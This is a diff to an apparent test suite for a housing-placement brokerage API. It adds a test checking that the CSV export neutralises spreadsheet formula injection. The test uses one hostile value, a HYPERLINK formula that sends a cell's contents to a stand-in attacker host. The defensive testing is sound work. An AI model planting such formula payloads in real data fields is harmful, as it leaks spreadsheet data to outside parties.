@@ -2,6 +2,7 @@
 // package, twenty officers racing for one last unit, a retried request, and the summary report.
 import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
 import { and, eq } from 'drizzle-orm';
 import { auditEvents } from '../platform/audit/schema.ts';
 import { api, testWorld, type TestWorld } from '../../test/support/test-app.ts';
@@ -141,6 +142,19 @@ test('the summary counts placements active on the date, by route, in and out of 
   assert.equal(ended.statusCode, 200, ended.body);
   assert.ok((await api(world, 'brokerage_officer', 'GET', '/api/v1/vacancies')).json().some((v: { unitId: string; voidSince: string }) => v.unitId === units[0]!.unit.id && v.voidSince === '2027-04-01'));
   assert.equal((await api(world, 'brokerage_officer', 'POST', `/api/v1/placements/${onFramework.json().id}/end`, { endsOn: '2027-03-31', reason: 'moved' })).statusCode, 409);
+});
+
+test('the register\'s CSV keeps a name that looks like a formula as text, so a spreadsheet does not run it', async () => {
+  const { units } = await northScheme(['Flat F']);
+  const name = '=HYPERLINK("http://attacker.invalid/?x="&A2,"Open record")';
+  const person = await assessedPerson({ name });
+  const placed = await api(world, 'brokerage_officer', 'POST', '/api/v1/placements', { personId: person.id, unitId: units[0]!.unit.id, providerId: world.otherProviderId, membershipId: kestrelNorth().id, startsOn: '2027-01-20', oneToOneMinutesPerWeek: 0, nightSupport: 'none' });
+  assert.equal(placed.statusCode, 201, placed.body);
+
+  const csv = await api(world, 'finance_officer', 'GET', '/api/v1/placements.csv?activeOn=2027-01-20');
+  const row = (parse(csv.body, { columns: true }) as Record<string, string>[]).find((r) => r.placement === placed.json().id)!;
+  assert.equal(row.person, `'${name}`);
+  assert.equal(row.weekly_price, (placed.json().weeklyPricePence / 100).toFixed(2), 'amounts stay numbers');
 });
 
 test('an embargo stops new placements until lifted; the care provider reports the void when a tenant leaves', async () => {
